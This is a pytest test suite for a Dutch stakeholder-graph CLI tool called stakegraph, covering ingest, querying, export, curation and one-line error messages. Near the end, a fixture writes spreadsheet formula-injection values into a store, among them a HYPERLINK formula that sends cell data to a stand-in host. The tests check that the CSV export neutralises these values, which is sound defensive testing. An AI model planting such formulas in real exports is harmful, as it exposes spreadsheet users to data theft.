"""The core `stakegraph` commands end to end on a small Dutch corpus: every happy path, the
machine formats parse, corrections are written next to the store and take effect, and every user
mistake is one line with exit 2 (exit 1 for --strict partial runs), never a traceback."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from stakegraph import __version__
from stakegraph.cli import main
from stakegraph.graph.curation import CURATION_FILE

BENOEMING = """Nieuwe gemeentesecretaris voor Zwolle

Het college van de gemeente Zwolle heeft Marieke van Dalen benoemd tot gemeentesecretaris. Van Dalen is \
nu directeur bij de Vereniging van Nederlandse Gemeenten (VNG). Zij volgt Bram Koster op, die met \
pensioen gaat.

De gemeente Zwolle werkt samen met de gemeente Kampen aan de woningbouw in de regio.
"""
INTERVIEW = """# Interview met Joris Hendriks

Joris Hendriks is lector aan Hogeschool Windesheim. Hendriks werkt samen met de gemeente Zwolle aan het \
programma Wijk aan Zet.

"De VNG is voor ons een belangrijke partner", zegt Hendriks. Marieke van Dalen, gemeentesecretaris van \
Zwolle, steunt het programma.
"""
NIEUWS = """GGD IJsselland start Gezond Kampen

GGD IJsselland en de gemeente Kampen starten samen het project Gezond Kampen. Tessa Wolters, directeur \
publieke gezondheid bij GGD IJsselland, leidt het project.

Ook Hogeschool Windesheim doet mee aan Gezond Kampen.
"""
CORE_COMMANDS = ("ingest", "forget", "entities", "relations", "show", "stats", "export", "evaluate", "merge",
                 "reject", "rename", "demo")


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    """Invoke the CLI in-process; an exception escaping a command (a traceback for a user) fails the test."""
    result = CliRunner().invoke(main, [str(a) for a in args], env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    return result


def one_line_error(result: Result, code: int = 2) -> str:
    assert result.exit_code == code, result.output
    err = result.stderr.strip()
    assert err.count("\n") == 0 and err, result.output
    return err


def rows_of_table(text: str) -> list[str]:
    lines = text.strip().splitlines()
    rule = next(i for i, line in enumerate(lines) if set(line.replace(" ", "")) == {"-"})
    return lines[rule + 1:]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("cli") / "stukken"
    folder.mkdir()
    (folder / "benoeming_zwolle.txt").write_text(BENOEMING, encoding="utf-8")
    (folder / "interview_windesheim.md").write_text(INTERVIEW, encoding="utf-8")
    (folder / "gezond_kampen.txt").write_text(NIEUWS, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def ingested(corpus: Path) -> tuple[str, Result]:
    db = str(corpus.parent / "master.db")
    return db, run("ingest", corpus, "--store", db)


@pytest.fixture
def db(ingested: tuple[str, Result], tmp_path: Path) -> str:
    """A private copy of the ingested store, for tests that change it."""
    path = tmp_path / "graph.db"
    shutil.copy(ingested[0], path)
    return str(path)


# -- help and version --------------------------------------------------------------------------
def test_version() -> None:
    result = run("--version")
    assert result.exit_code == 0 and __version__ in result.output


def test_help_lists_the_core_commands_and_each_has_help() -> None:
    result = run("--help")
    assert result.exit_code == 0
    for name in CORE_COMMANDS:
        assert name in result.output
        sub = run(name, "--help")
        assert sub.exit_code == 0 and "Usage:" in sub.output
    assert run("export", "json", "--help").exit_code == 0


def test_an_unknown_command_is_a_usage_error() -> None:
    result = run("ingets", "x")
    assert result.exit_code == 2 and "ingets" in result.output


# -- ingest ----------------------------------------------------------------------------------
def test_ingest_reports_what_it_did(ingested: tuple[str, Result]) -> None:
    _, result = ingested
    assert result.exit_code == 0
    assert result.stdout.strip() == "3 ingested, 0 unchanged, 0 skipped"


def test_ingest_twice_changes_nothing_and_exports_the_same_bytes(corpus: Path, tmp_path: Path) -> None:
    db = str(tmp_path / "twice.db")
    assert run("ingest", corpus, "--store", db).exit_code == 0
    first = run("export", "json", "--store", db).stdout
    again = run("ingest", corpus, "--store", db)
    assert again.exit_code == 0 and again.stdout.strip() == "0 ingested, 3 unchanged, 0 skipped"
    assert run("export", "json", "--store", db).stdout == first
    out = tmp_path / "graph.json"
    result = run("export", "json", "--store", db, "-o", out)
    assert result.exit_code == 0 and out.read_text(encoding="utf-8") == first
    assert json.loads(first)["format"] == "stakegraph-graph/1"


def test_ingest_warns_about_skipped_files_and_strict_exits_1(corpus: Path, tmp_path: Path) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "leeg.txt").write_text("", encoding="utf-8")
    (extra / "kapot.pdf").write_bytes(b"%PDF-1.7\nrommel")
    (extra / "tabel.xyz").write_text("Zwolle;Kampen", encoding="utf-8")
    (extra / "goed.txt").write_text(NIEUWS, encoding="utf-8")
    db = str(tmp_path / "skip.db")
    args = ("ingest", extra, extra / "tabel.xyz", "--store", db)
    result = run(*args)
    assert result.exit_code == 0
    warnings = result.stderr.strip().splitlines()
    assert len(warnings) == 3 and all(w.startswith("warning: skipped ") for w in warnings)
    for name, reason in (("leeg.txt", "empty"), ("kapot.pdf", "PDF"), ("tabel.xyz", "unsupported")):
        assert any(name in w and reason in w for w in warnings), (name, warnings)
    assert result.stdout.strip() == "1 ingested, 0 unchanged, 3 skipped"
    strict = run(*args, "--strict")
    assert strict.exit_code == 1 and "3 skipped" in strict.stdout
    assert run("ingest", extra / "goed.txt", "--store", db, "--strict").exit_code == 0


def test_ingest_of_a_path_that_does_not_exist_is_a_usage_error(corpus: Path, tmp_path: Path,
                                                                 monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = run("ingest", "./bestaat-niet")
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr == "stakegraph: error: no such file or folder: bestaat-niet\n"
    assert not (tmp_path / "stakegraph.db").exists() and list(tmp_path.iterdir()) == []
    # one missing path among good ones: nothing is ingested, no store appears
    err = one_line_error(run("ingest", corpus, "ontbreekt.txt", "--store", "nieuw.db"))
    assert "ontbreekt.txt" in err and not (tmp_path / "nieuw.db").exists()


def test_ingest_into_something_that_is_not_a_store(corpus: Path, tmp_path: Path) -> None:
    notes = tmp_path / "notities.txt"
    notes.write_text("Dit is geen database.\n" * 50, encoding="utf-8")
    err = one_line_error(run("ingest", corpus, "--store", notes))
    assert "not a stakegraph store" in err
    err = one_line_error(run("ingest", corpus, "--store", "postgres://server/db"))
    assert "postgres://" in err


def test_ingest_with_an_unknown_spacy_pipeline(corpus: Path, tmp_path: Path) -> None:
    err = one_line_error(run("ingest", corpus, "--store", tmp_path / "x.db", "--nlp", "nl_bestaat_niet_lg"))
    assert "nl_bestaat_niet_lg" in err


def test_ingest_prune_and_forget(corpus: Path, tmp_path: Path) -> None:
    folder = tmp_path / "kopie"
    shutil.copytree(corpus, folder)
    db = str(tmp_path / "prune.db")
    run("ingest", folder, "--store", db)
    (folder / "gezond_kampen.txt").unlink()
    result = run("ingest", folder, "--store", db, "--prune")
    assert result.exit_code == 0 and result.stdout.strip() == "0 ingested, 2 unchanged, 0 skipped, 1 pruned"
    names = {e["name"] for e in json.loads(run("entities", "--store", db, "--format", "json").stdout)}
    assert "Tessa Wolters" not in names and "Marieke van Dalen" in names

    result = run("forget", folder / "benoeming_zwolle.txt", folder / "bestaat-niet.txt", "--store", db)
    assert result.exit_code == 0 and result.stdout.strip() == "1 forgotten"
    assert "bestaat-niet.txt" in result.stderr
    entities = {e["name"]: e for e in json.loads(run("entities", "--store", db, "--format", "json").stdout)}
    assert "Bram Koster" not in entities
    assert entities["Marieke van Dalen"]["documents"] == ["interview_windesheim.md"]
    result = run("forget", folder, "--store", db)
    assert result.stdout.strip() == "1 forgotten"
    assert json.loads(run("entities", "--store", db, "--format", "json").stdout) == []


# -- reading ---------------------------------------------------------------------------------
def test_entities_in_every_format(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    table = run("entities", "--store", db)
    assert table.exit_code == 0 and table.stdout.split()[0] == "id"
    data = json.loads(run("entities", "--store", db, "--format", "json").stdout)
    names = {e["name"]: e for e in data}
    assert names["Marieke van Dalen"]["type"] == "Person"
    assert names["Marieke van Dalen"]["documents"] == ["benoeming_zwolle.txt", "interview_windesheim.md"]
    mentions = [e["mentions"] for e in data]
    assert mentions == sorted(mentions, reverse=True)
    rows = list(csv.reader(io.StringIO(run("entities", "--store", db, "--format", "csv").stdout)))
    assert rows[0] == ["id", "type", "name", "mentions", "aliases", "documents"]
    assert len(rows) == len(data) + 1
    persons = json.loads(run("entities", "--store", db, "--type", "Person", "--format", "json").stdout)
    assert persons and {e["type"] for e in persons} == {"Person"}
    assert run("entities", "--store", db, "--type", "Persoon").exit_code == 2


def test_relations_in_every_format(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    data = json.loads(run("relations", "--store", db, "--format", "json").stdout)
    assert data
    for r in data:
        assert r["evidence"] and {"document", "start", "end", "sentence", "rule"} <= set(r["evidence"][0])
        assert r["sentences"] and r["source_name"] and r["target_name"]
    rows = list(csv.DictReader(io.StringIO(run("relations", "--store", db, "--format", "csv").stdout)))
    assert list(rows[0]) == ["type", "source_id", "source_name", "target_id", "target_name", "role", "status",
                             "confidence", "rule", "document", "document_date", "sentence", "start", "end"]
    # one row per piece of evidence, each with everything an analyst needs to read it on its own
    want = sorted((r["type"], r["source"], r["source_name"], r["target"], r["target_name"], str(ev["start"]),
                   ev["document"], ev["rule"], " ".join(ev["sentence"].split()))
                  for r in data for ev in r["evidence"])
    got = sorted((r["type"], r["source_id"], r["source_name"], r["target_id"], r["target_name"], r["start"],
                  r["document"], r["rule"], r["sentence"]) for r in rows)
    assert got == want
    dated = {d["name"]: d.get("date") for d in json.loads(run("export", "json", "--store", db).stdout)["documents"]}
    assert all(r["document_date"] == (dated[r["document"]] or "") for r in rows)
    assert all(0 < float(r["confidence"]) <= 1 for r in rows)
    zwolle = json.loads(run("relations", "--store", db, "--entity", "gemeente Zwolle", "--format", "json")
                        .stdout)
    assert zwolle and all("gemeente:gm0193" in (r["source"], r["target"]) for r in zwolle)
    held = json.loads(run("relations", "--store", db, "--type", "HOLDS_POSITION", "--format", "json").stdout)
    assert any(r["source_name"] == "Marieke van Dalen" and r["role"] == "gemeentesecretaris" for r in held)
    assert {r["type"] for r in held} == {"HOLDS_POSITION"}


def test_min_confidence_filters_relations(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    everything = json.loads(run("relations", "--store", db, "--format", "json").stdout)
    cuts = sorted({r["confidence"] for r in everything})
    assert len(cuts) >= 2  # otherwise this test shows nothing
    for cut in cuts:
        args = ("relations", "--store", db, "--format", "json", "--min-confidence", cut)
        assert json.loads(run(*args).stdout) == [r for r in everything if r["confidence"] >= cut]
    assert run("relations", "--store", db, "--min-confidence", "1.5").exit_code == 2


def test_show_a_stakeholder(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    result = run("show", "Van Dalen", "--store", db)
    assert result.exit_code == 0
    first = result.stdout.splitlines()[0]
    assert "Marieke van Dalen" in first and "Person" in first and "person:marieke-van-dalen" in first
    assert "HOLDS_POSITION -> Zwolle [gemeentesecretaris" in result.stdout
    assert "benoeming_zwolle.txt:" in result.stdout
    data = json.loads(run("show", "gemeente Zwolle", "--store", db, "--format", "json").stdout)
    assert data["entity"]["type"] == "Municipality" and data["relations"]


@pytest.mark.parametrize("command", [("show", "Marieke van Dalem"),
                                     ("relations", "--entity", "Marieke van Dalem")])
def test_an_unknown_stakeholder_gets_did_you_mean(ingested: tuple[str, Result],
                                                  command: tuple[str, ...]) -> None:
    db, _ = ingested
    err = one_line_error(run(*command, "--store", db))
    assert "Marieke van Dalem" in err and "did you mean" in err and "Marieke van Dalen" in err


def test_stats_in_every_format(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    table = run("stats", "--store", db)
    assert table.exit_code == 0 and "documents" in table.stdout and "entity_types:" in table.stdout
    [row] = json.loads(run("stats", "--store", db, "--format", "json").stdout)
    assert row["documents"] == 3 and row["entities"] >= 8 and row["relations"] >= 3
    rows = list(csv.reader(io.StringIO(run("stats", "--store", db, "--format", "csv").stdout)))
    assert rows[0][:2] == ["store", "documents"] and rows[1][1] == "3"


def test_export_json_matches_the_listing(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    data = json.loads(run("export", "json", "--store", db).stdout)
    listed = json.loads(run("entities", "--store", db, "--format", "json").stdout)
    assert sorted(e["id"] for e in data["entities"]) == sorted(e["id"] for e in listed)
    assert len(data["documents"]) == 3


def test_export_to_an_unwritable_place_is_one_line(ingested: tuple[str, Result], tmp_path: Path) -> None:
    db, _ = ingested
    err = one_line_error(run("export", "json", "--store", db, "-o", tmp_path / "bestaat-niet" / "graph.json"))
    assert "bestaat-niet" in err


def test_evaluate_against_a_gold_file(ingested: tuple[str, Result], tmp_path: Path) -> None:
    db, _ = ingested
    gold = tmp_path / "gold"
    gold.mkdir()
    (gold / "benoeming_zwolle.txt.json").write_text(json.dumps({
        "document": "benoeming_zwolle.txt",
        "entities": [
            {"key": "marieke", "type": "Person", "name": "Marieke van Dalen", "aliases": ["Van Dalen"]},
            {"key": "zwolle", "type": "Municipality", "name": "Zwolle", "aliases": ["gemeente Zwolle"]},
            {"key": "kampen", "type": "Municipality", "name": "Kampen", "aliases": ["gemeente Kampen"]},
        ],
        "relations": [
            {"type": "HOLDS_POSITION", "source": "marieke", "target": "zwolle", "role": "gemeentesecretaris",
             "status": "current"},
            {"type": "COLLABORATES_WITH", "source": "zwolle", "target": "kampen"},
        ],
    }), encoding="utf-8")
    result = run("evaluate", "--gold", gold, "--store", db, "--format", "json")
    assert result.exit_code == 0
    scores = json.loads(result.stdout)
    assert scores["entities"]["tp"] == 3 and scores["entities"]["recall"] == 1.0
    assert scores["relations"]["tp"] >= 1
    table = run("evaluate", "--gold", gold, "--store", db)
    assert table.exit_code == 0
    assert "HOLDS_POSITION" in table.stdout and "benoeming_zwolle.txt" in table.stdout


# -- stores ----------------------------------------------------------------------------------
def test_a_missing_store_is_one_line(tmp_path: Path) -> None:
    for command in (("entities",), ("relations",), ("show", "Zwolle"), ("stats",), ("export", "json"),
                    ("forget", "x.txt"), ("merge", "a", "b"), ("reject", "a"), ("rename", "a", "b")):
        err = one_line_error(run(*command, "--store", tmp_path / "tikfout.db"))
        assert "no graph at" in err and "tikfout.db" in err
    assert not (tmp_path / "tikfout.db").exists()


def test_a_png_as_store_is_one_line(tmp_path: Path) -> None:
    png = tmp_path / "logo.db"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    err = one_line_error(run("entities", "--store", png))
    assert "not a stakegraph store" in err


def test_store_from_the_environment(db: str, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = run("stats", "--format", "json", env={"STAKEGRAPH_STORE": db})
    assert result.exit_code == 0 and json.loads(result.stdout)[0]["documents"] == 3
    assert not (tmp_path / "stakegraph.db").exists()


def test_sqlite_urls_and_the_curation_file_beside_them(db: str, tmp_path: Path, monkeypatch) -> None:
    elsewhere = tmp_path / "ergens-anders"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    url = f"sqlite:///{Path(db).resolve()}"  # four slashes: an absolute path
    assert run("stats", "--store", url).exit_code == 0
    result = run("reject", "Bram Koster", "--store", url)
    assert result.exit_code == 0
    assert (Path(db).parent / CURATION_FILE).is_file()
    assert not any(elsewhere.rglob(CURATION_FILE))
    names = {e["name"] for e in json.loads(run("entities", "--store", url, "--format", "json").stdout)}
    assert "Bram Koster" not in names
    shutil.copy(db, elsewhere / "rel.db")
    assert run("stats", "--store", "sqlite:///rel.db").exit_code == 0  # three slashes: relative


# -- curation --------------------------------------------------------------------------------
def entity_names(db: str) -> dict[str, dict]:
    return {e["name"]: e for e in json.loads(run("entities", "--store", db, "--format", "json").stdout)}


def test_merge_reject_and_rename_are_recorded_and_take_effect(db: str, corpus: Path) -> None:
    toml = Path(db).parent / CURATION_FILE
    before = entity_names(db)
    assert {"Marieke van Dalen", "Bram Koster", "Tessa Wolters"} <= set(before)

    result = run("merge", "Marieke van Dalen", "Bram Koster", "--store", db)
    assert result.exit_code == 0 and str(toml) in result.stdout
    after = entity_names(db)
    assert "Bram Koster" not in after and "Bram Koster" in after["Marieke van Dalen"]["aliases"]
    assert len(after) == len(before) - 1

    assert run("reject", "Tessa Wolters", "--store", db).exit_code == 0
    after = entity_names(db)
    assert "Tessa Wolters" not in after
    rels = json.loads(run("relations", "--store", db, "--format", "json").stdout)
    assert all("Tessa Wolters" not in (r["source_name"], r["target_name"]) for r in rels)

    assert run("rename", "GGD IJsselland", "GGD IJsselland Zwolle", "--store", db).exit_code == 0
    assert "GGD IJsselland" in entity_names(db)["GGD IJsselland Zwolle"]["aliases"]

    text = toml.read_text(encoding="utf-8")
    assert "[[merge]]" in text and "[[reject]]" in text and "[[rename]]" in text
    run("reject", "Tessa Wolters", "--store", db)  # already rejected: the file does not grow
    run("merge", "Marieke van Dalen", "Bram Koster", "--store", db)
    assert toml.read_text(encoding="utf-8") == text

    # the corrections hold when the documents are read again
    changed = corpus.parent / "veranderd"
    shutil.copytree(corpus, changed, dirs_exist_ok=True)
    more = NIEUWS + "\nTessa Wolters is ook voorzitter.\n"
    (changed / "gezond_kampen.txt").write_text(more, encoding="utf-8")
    assert run("ingest", changed, "--store", db).exit_code == 0
    final = entity_names(db)
    assert "Tessa Wolters" not in final and "Bram Koster" not in final and "GGD IJsselland Zwolle" in final


def test_curating_an_unknown_stakeholder_writes_nothing(db: str) -> None:
    toml = Path(db).parent / CURATION_FILE
    err = one_line_error(run("merge", "Marieke van Dalen", "Brm Koster", "--store", db))
    assert "did you mean" in err and "Bram Koster" in err
    err = one_line_error(run("reject", "Tesa Wolters", "--store", db))
    assert "Tessa Wolters" in err
    assert not toml.exists()


def test_an_explicit_curation_file(db: str, tmp_path: Path) -> None:
    own = tmp_path / "mijn-correcties.toml"
    assert run("reject", "Bram Koster", "--store", db, "--curation", own).exit_code == 0
    assert own.is_file() and not (Path(db).parent / CURATION_FILE).exists()
    assert "Bram Koster" in entity_names(db)  # the default file says nothing
    with_own = json.loads(run("entities", "--store", db, "--curation", own, "--format", "json").stdout)
    assert "Bram Koster" not in {e["name"] for e in with_own}


@pytest.mark.parametrize("content", ["[[merge]\n", "[[samenvoegen]]\ninto = 'x'\n",
                                     "[[reject]]\nentity = 7\n"])
def test_a_broken_curation_file_is_one_line(db: str, corpus: Path, content: str) -> None:
    toml = Path(db).parent / CURATION_FILE
    toml.write_text(content, encoding="utf-8")
    for command in (("entities",), ("ingest", corpus), ("reject", "Bram Koster")):
        err = one_line_error(run(*command, "--store", db))
        assert CURATION_FILE in err
    assert toml.read_text(encoding="utf-8") == content  # never overwritten


# -- the real executable ---------------------------------------------------------------------
def test_the_installed_command_prints_no_traceback(ingested: tuple[str, Result], tmp_path: Path) -> None:
    db, _ = ingested
    exe = Path(sys.executable).with_name("stakegraph")
    command = [str(exe)] if exe.exists() else [sys.executable, "-m", "stakegraph.cli"]
    done = subprocess.run([*command, "show", "Marieke van Dalem", "--store", db], capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr and "did you mean" in done.stderr
    assert done.stderr.strip().count("\n") == 0


# -- demo ------------------------------------------------------------------------------------
def test_demo_ranks_the_bundled_samples(tmp_path: Path) -> None:
    pytest.importorskip("stakegraph.queries.centrality")
    result = run("demo", "--top", "8", "--store", tmp_path / "demo.db")
    assert result.exit_code == 0, result.output
    assert "5 ingested" in result.stdout
    rows = rows_of_table(result.stdout)
    assert 5 <= len(rows) <= 8
    assert (tmp_path / "demo.db").is_file()


# -- spreadsheets, names that are not found or mean two ------------------------------------------
def hostile_store(path: Path) -> str:
    """A store whose names and sentences would run as formulas in a spreadsheet if left as they are."""
    from stakegraph.graph.model import Document, DocumentFacts, Entity, Evidence, Relation
    from stakegraph.graph.sqlite import SQLiteStore

    sentence = '=HYPERLINK("http://kwaad.example/?"&A1;"klik") zegt @Piet, +31 6 1234, -- \tZwolle.'
    facts = DocumentFacts(
        Document("d1", "kwaad.txt", str(path / "kwaad.txt"), date="2024-05-01"),
        entities=[Entity("person:piet", "Person", "=Piet+1", ["@Piet"], ["kwaad.txt"], 2),
                  Entity("gemeente:gm0193", "Municipality", "Zwolle", ["gemeente Zwolle"], ["kwaad.txt"], 1)],
        relations=[Relation("HOLDS_POSITION", "person:piet", "gemeente:gm0193", role="-wethouder",
                            status="current", confidence=0.8,
                            evidence=[Evidence("kwaad.txt", 0, len(sentence), sentence, "@rule", 0.8)])],
    )
    db = str(path / "kwaad.db")
    with SQLiteStore(db) as store:
        store.upsert(facts)
    return db


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    db = hostile_store(tmp_path)
    outputs = [run("relations", "--store", db, "--format", "csv").stdout,
               run("entities", "--store", db, "--format", "csv").stdout]
    assert run("export", "csv", "-o", str(tmp_path / "neo"), "--store", db).exit_code == 0
    outputs += [(tmp_path / "neo" / n).read_text(encoding="utf-8") for n in ("nodes.csv", "relationships.csv")]
    cells = [c for text in outputs for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=Piet+1" in cells and "'-wethouder" in cells and "'@rule" in cells
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    relation = next(csv.DictReader(io.StringIO(outputs[0])))
    assert relation["document_date"] == "2024-05-01" and relation["confidence"] == "0.8"
    # JSON keeps the text as it was read
    data = json.loads(run("relations", "--store", db, "--format", "json").stdout)
    assert data[0]["evidence"][0]["sentence"].startswith("=HYPERLINK(")


def test_show_suggests_the_closest_names_once_each(ingested: tuple[str, Result]) -> None:
    db, _ = ingested
    err = one_line_error(run("show", "Marieke van Dalne", "--store", db))
    assert err.startswith("stakegraph: error: no stakeholder named 'Marieke van Dalne' (did you mean: "
                          "Marieke van Dalen")
    names = err.split("did you mean: ", 1)[1].rstrip("?)").split("; ")
    assert len(names) == len(set(names))  # an entity and its alias ("Van Dalen") count once
    # a name no stakeholder resembles gets no list of every "gemeente ..." in the store
    err = one_line_error(run("show", "gemeente Leiden", "--store", db))
    assert err == "stakegraph: error: no stakeholder named 'gemeente Leiden'"


def two_groningens(path: Path, province_name: str = "Groningen") -> str:
    from stakegraph.graph.model import Document, DocumentFacts, Entity
    from stakegraph.graph.sqlite import SQLiteStore

    aliases = ["provincie Groningen"] if province_name == "Groningen" else []
    facts = DocumentFacts(Document("d1", "noorden.txt", str(path / "noorden.txt")), entities=[
        Entity("gemeente:gm0014", "Municipality", "Groningen", ["gemeente Groningen"], ["noorden.txt"], 3),
        Entity("provincie:pv20", "Province", province_name, aliases, ["noorden.txt"], 1)])
    db = str(path / "noorden.db")
    with SQLiteStore(db) as store:
        store.upsert(facts)
    return db


@pytest.mark.parametrize("province_name", ["Groningen", "provincie Groningen"])
def test_show_on_a_name_of_two_stakeholders_says_so_and_how_to_choose(tmp_path: Path, province_name: str) -> None:
    db = two_groningens(tmp_path, province_name)
    err = one_line_error(run("show", "Groningen", "--store", db))
    assert err == ("stakegraph: error: 'Groningen' names 2 stakeholders; choose one by name or id: "
                   "Groningen (Municipality): 'gemeente Groningen' or gemeente:gm0014; "
                   f"{province_name} (Province): 'provincie Groningen' or provincie:pv20")
    for way, eid in (("gemeente Groningen", "gemeente:gm0014"), ("provincie Groningen", "provincie:pv20"),
                     ("provincie:pv20", "provincie:pv20")):
        shown = run("show", way, "--store", db, "--format", "json")
        assert shown.exit_code == 0 and json.loads(shown.stdout)["entity"]["id"] == eid
    assert "names 2 stakeholders" in one_line_error(run("reject", "Groningen", "--store", db))


def test_sqlite_urls_follow_the_sqlalchemy_convention(corpus: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    absolute = tmp_path / "abs" / "graph.db"
    assert run("ingest", corpus, "--store", f"sqlite:///{absolute}").exit_code == 0  # four slashes
    assert absolute.is_file()
    assert run("ingest", corpus, "--store", "sqlite:///rel/graph.db").exit_code == 0  # three: relative
    assert (tmp_path / "rel" / "graph.db").is_file()
    err = one_line_error(run("stats", "--store", "sqlite:///nergens/graph.db"))
    assert err.endswith("(sqlite:///nergens/graph.db is the relative path nergens/graph.db; "
                        "an absolute one is sqlite:////nergens/graph.db)")
    err = one_line_error(run("stats", "--store", "sqlite://graph.db"))
    assert "write sqlite:///relative.db or sqlite:////absolute/path.db" in err
